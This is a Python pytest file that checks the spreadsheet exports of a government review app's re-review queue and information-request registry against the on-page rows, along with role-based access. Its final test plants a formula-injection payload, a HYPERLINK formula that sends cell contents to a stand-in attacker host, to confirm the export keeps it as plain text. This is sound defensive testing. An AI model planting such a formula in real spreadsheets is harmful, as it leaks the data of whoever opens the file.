"""The .xlsx of the re-review tasks and of the request registry: opened back with openpyxl and compared
cell by cell with the rows the page shows under the same filters; only the roles that see the page may
download it, and a drafter's export holds their own section's rows alone."""
from __future__ import annotations

import datetime as dt
import html
import io
import re
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from review.enums import Attribute, Role
from review.models import ReReview
from review.request_enums import Outcome, RequesterType
from tests.domain.flow import Office
from tests.domain.rereview_flow import issued_rows, run_job
from tests.domain.test_requests import NOW, registered
from tests.web.test_exports import sheet_of, values

D = dt.date


def cells_of(page: str, row_pattern: str) -> list[list[str]]:
    """The text of every cell of the table rows matching ``row_pattern``, as a reader sees them."""
    rows = []
    for row in re.findall(rf"<tr {row_pattern}.*?</tr>", page, re.S):
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        rows.append([" ".join(html.unescape(re.sub(r"<[^>]+>", "", c)).split()) for c in cells])
    return rows


def text(value) -> str:
    return "" if value is None else str(value)


# --- 定期审查 ------------------------------------------------------------------------------------------

@pytest.fixture
def tasks(app, session, store, make_user, make_section):
    """55 open tasks (more than a page): 50 of one section (process_info), 5 of another (third_party),
    three of them opened long ago (overdue)."""
    office = Office(session, store, make_user, make_section)
    other = make_section("疾病预防控制科")
    other_drafter = make_user(Role.DRAFTER, other)
    issued_rows(session, office.section, office.drafter, 50)
    issued_rows(session, other, other_drafter, 5, Attribute.ON_REQUEST, reason="third_party")
    today = dt.datetime.now(dt.UTC).date()
    run_job(session, today)
    late = session.scalars(sa.select(ReReview.id).where(ReReview.section_id == other.id).order_by(ReReview.id)
                           .limit(3)).all()
    session.execute(sa.update(ReReview).where(ReReview.id.in_(late)).values(opened_on=today - dt.timedelta(days=90)))
    session.commit()
    return office, other, other_drafter


def page_rows(client, url: str) -> list[list[str]]:
    """Every row of the queue page under these filters, following its pager."""
    rows, page_no = [], 1
    while True:
        response = client.get(f"{url}{'&' if '?' in url else '?'}page={page_no}")
        assert response.status_code == 200
        page = response.get_data(as_text=True)
        rows += cells_of(page, r'id="task-\d+"')
        if 'rel="next"' not in page:
            return rows
        page_no += 1


def expected_task_cells(sheet_row: list) -> list[str]:
    """A sheet row as the page writes it: 开启原因 with its due date, 开启日期 with 已逾期."""
    title, number, section, attribute, reason, trigger, due, opened, late, state = sheet_row
    trigger_cell = f"{trigger}（{due.date()} 到期）" if due else trigger
    return [title, text(number), section, attribute, reason, trigger_cell,
            f"{opened.date()} {text(late)}".strip(), state]


@pytest.mark.parametrize(("query", "count"), [("", 55), ("?overdue=1", 3), ("?reason=third_party", 5),
                                              ("?section={other}", 5), ("?section={other}&overdue=1", 3),
                                              ("?trigger=requests", 0)])
def test_rereview_export_is_the_page_under_the_same_filters(login, tasks, query, count):
    office, other, _ = tasks
    query = query.format(other=other.id)
    client = login(office.reviewer)
    shown = page_rows(client, f"/rereview/{query}")
    sheet = sheet_of(client.get(f"/exports/rereview.xlsx{query}"))
    rows = values(sheet)
    assert rows[0] == ["标题", "发文字号", "起草科室", "公开属性", "不公开理由", "开启原因", "到期日期", "开启日期",
                       "逾期", "状态"]
    assert [expected_task_cells(r) for r in rows[1:]] == shown
    assert len(shown) == count  # every page of the queue, not only the first
    # widths fitted to the content: the reason labels are long, the header alone is short
    assert sheet.column_dimensions["E"].width > 30 if count else sheet.column_dimensions["E"].width < 15


def test_rereview_export_link_carries_the_filters(login, tasks):
    office, other, _ = tasks
    page = login(office.reviewer).get(f"/rereview/?section={other.id}&overdue=1").get_data(as_text=True)
    assert f'href="/exports/rereview.xlsx?section={other.id}&amp;overdue=1"' in page


@pytest.mark.parametrize("role", [Role.SIGNATORY, Role.AUDITOR, Role.ADMIN])
def test_every_role_that_sees_the_queue_exports_the_same_rows(login, make_user, tasks, role):
    office, *_ = tasks
    reviewer_rows = values(sheet_of(login(office.reviewer).get("/exports/rereview.xlsx")))
    assert values(sheet_of(login(make_user(role)).get("/exports/rereview.xlsx"))) == reviewer_rows


def test_drafters_export_only_their_sections_tasks(login, make_user, tasks):
    office, other, other_drafter = tasks
    for role in (Role.DRAFTER, Role.SECTION_HEAD, Role.REQUEST_OFFICER):
        assert login(make_user(role)).get("/exports/rereview.xlsx").status_code == 403
    assert login(office.reviewer).get("/exports/rereview/section.xlsx").status_code == 403
    for drafter, n in ((other_drafter, 5), (office.drafter, 50)):
        client = login(drafter)
        page = client.get("/rereview/section").get_data(as_text=True)
        shown = cells_of(page, r'id="section-task-\d+"')
        rows = values(sheet_of(client.get("/exports/rereview/section.xlsx")))
        assert rows[0] == ["标题", "发文字号", "开启原因", "开启日期", "状态", "审查结果", "生效日期", "调整后公开属性"]
        assert len(rows) == 1 + n == 1 + len(shown)
        assert [[r[0], text(r[1]), r[2], str(r[3].date()), r[4], r[5] or "—"] for r in rows[1:]] == shown
        assert 'href="/exports/rereview/section.xlsx"' in page


# --- 政府信息公开申请 -----------------------------------------------------------------------------------

@pytest.fixture
def registry(app, session, store, make_user, make_section):
    """Three requests on 2026-12-15: one overdue, one due soon from a company, one answered."""
    app.config["FIXED_NOW"] = NOW.isoformat()
    office = Office(session, store, make_user, make_section)
    doc = office.issued(Attribute.ON_REQUEST)
    officer = make_user(Role.REQUEST_OFFICER)
    registered(session, officer, received=D(2026, 11, 2), name="刘某某", cited=["某局2019年内部会议纪要"])
    registered(session, officer, received=D(2026, 11, 20), name="青山医药有限公司", type=RequesterType.BUSINESS,
               cited=[doc.doc_number])
    answered = registered(session, officer, received=D(2026, 11, 3), name="王某")
    from review.operations import requests as ops
    ops.answer(session, store, officer, answered, Outcome.UNABLE_NOT_HELD, D(2026, 11, 20), "本机关不掌握。", "", NOW)
    session.commit()
    return officer


def expected_request_cells(sheet_row: list) -> list[str]:
    """A sheet row as the registry writes it: the due date with its flags, the state with the outcome."""
    number, name, rtype, channel, received, cited, due, note, state, outcome, _answered_on = sheet_row
    if state == "已答复":
        due_cell = str(due.date()) if due else "—"
    else:
        due_cell = " ".join([str(due.date())] * bool(due) + (note.split("；") if note else []))
    return [number, name, rtype, channel, str(received.date()), cited or "—", due_cell,
            f"{state}：{outcome}" if outcome else state]


@pytest.mark.parametrize("query", ["", "?state=all", "?state=answered", "?state=all&type=business",
                                   "?state=all&q=刘某", "?flag=overdue", "?flag=soon", "?state=all&year=2025"])
def test_request_export_is_the_page_under_the_same_filters(login, registry, query):
    client = login(registry)
    page = client.get(f"/requests/{query}").get_data(as_text=True)
    shown = cells_of(page, r'class="[^"]*" data-number=')
    rows = values(sheet_of(client.get(f"/exports/requests.xlsx{query}")))
    assert rows[0] == ["编号", "申请人", "申请人类型", "申请方式", "收到日期", "所申请文件", "答复期限", "期限提示",
                       "状态", "答复结果", "答复日期"]
    assert [expected_request_cells(r) for r in rows[1:]] == shown
    counts = {"": 2, "?state=all": 3, "?state=answered": 1, "?state=all&type=business": 1, "?state=all&q=刘某": 1,
              "?flag=overdue": 1, "?flag=soon": 1, "?state=all&year=2025": 0}
    assert len(shown) == counts[query]


def test_request_export_cells(login, registry):
    rows = values(sheet_of(login(registry).get("/exports/requests.xlsx?state=all")))
    by_name = {r[1]: r for r in rows[1:]}
    liu = by_name["刘某某"]
    assert liu[2:6] == ["自然人", "网络", dt.datetime(2026, 11, 2), "某局2019年内部会议纪要（未找到）"]
    assert liu[7] == "已逾期" and liu[8] == "办理中" and liu[9] is None
    company = by_name["青山医药有限公司"]
    assert company[2] == "商业企业" and company[6] == dt.datetime(2026, 12, 18) and company[7].startswith("剩 ")
    wang = by_name["王某"]
    assert wang[8] == "已答复" and wang[9] == "无法提供：本机关不掌握相关政府信息"
    assert wang[10] == dt.datetime(2026, 11, 20)


def test_only_who_sees_the_registry_exports_it(login, make_user, registry):
    officer_rows = values(sheet_of(login(registry).get("/exports/requests.xlsx?state=all")))
    for role in (Role.AUDITOR, Role.ADMIN):
        assert values(sheet_of(login(make_user(role)).get("/exports/requests.xlsx?state=all"))) == officer_rows
    for role in (Role.DRAFTER, Role.SECTION_HEAD, Role.REVIEWER, Role.SIGNATORY):
        assert login(make_user(role)).get("/exports/requests.xlsx").status_code == 403
    page = login(registry).get("/requests/?state=all&type=business").get_data(as_text=True)
    assert 'href="/exports/requests.xlsx?state=all&amp;type=business"' in page


def test_text_that_looks_like_a_formula_stays_text(login, registry, session):
    """A requester names themselves "=HYPERLINK(…)": the export must carry it as text, never as a
    formula the clerk's Excel would evaluate (formula injection)."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    registered(session, registry, received=D(2026, 12, 1), name=hostile)
    session.commit()
    book = openpyxl.load_workbook(io.BytesIO(login(registry).get("/exports/requests.xlsx?state=all").data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    # and the file itself holds no formula element at all
    with zipfile.ZipFile(io.BytesIO(login(registry).get("/exports/requests.xlsx?state=all").data)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
